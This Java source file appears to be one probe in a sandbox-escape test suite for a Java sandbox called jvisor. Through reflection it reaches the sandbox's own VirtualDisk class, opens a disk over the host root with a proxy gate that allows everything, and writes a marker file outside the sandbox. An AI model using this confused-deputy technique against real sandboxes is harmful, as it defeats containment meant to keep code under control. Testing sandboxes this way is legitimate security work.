package escape.hypervisor;

import java.io.OutputStream;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

/**
 * Calls jvisor's own classes: reaches the JVM's application class loader, which holds jvisor (the
 * platform loader hands the JDK's tool modules, javac's among them, to it), opens a virtual disk of
 * its own over the host's root with a gate that allows everything, and writes a host file through
 * it; the JDK's file guards let a file that jvisor's disk decided through. Without jvisor nothing
 * happens.
 *
 * <p>Source: confused deputy, the sandbox's own public classes called by the code it confines,
 * https://en.wikipedia.org/wiki/Confused_deputy_problem
 */
public final class OwnVirtualDisk {

    private OwnVirtualDisk() {
    }

    public static void main(String[] args) {
        try {
            ClassLoader application = Class.forName("com.sun.tools.javac.Main").getClassLoader();
            Class<?> disk = Class.forName("io.jvisor.sandbox.device.disk.VirtualDisk", true, application);
            Class<?> gate = Class.forName("io.jvisor.sandbox.device.disk.VirtualDisk$Gate", true, application);
            Object allowsAll = Proxy.newProxyInstance(application, new Class<?>[] {gate}, (p, m, a) -> switch (m.getName()) {
                case "hashCode" -> 1;
                case "equals" -> p == a[0];
                case "toString" -> "allows all";
                default -> null;
            });
            Object root = disk.getMethod("open", Path.class, List.class, long.class, gate).invoke(null, Path.of("/"), List.of(),
                    Long.MAX_VALUE, allowsAll);
            Class<?> streams = Class.forName("io.jvisor.sandbox.device.disk.FileStreams", true, application);
            try (OutputStream out = (OutputStream) streams.getMethod("openOutput", disk, String.class, boolean.class)
                    .invoke(null, root, args[0], false)) {
                out.write("escaped\n".getBytes(StandardCharsets.UTF_8));
            }
            System.out.println("hypervisor-own-virtual-disk: wrote " + args[0]);
        } catch (ClassNotFoundException e) {
            System.out.println("hypervisor-own-virtual-disk: no jvisor here (" + e.getMessage() + ")");
        } catch (Throwable t) {
            System.out.println("hypervisor-own-virtual-disk: " + t);
        }
    }
}
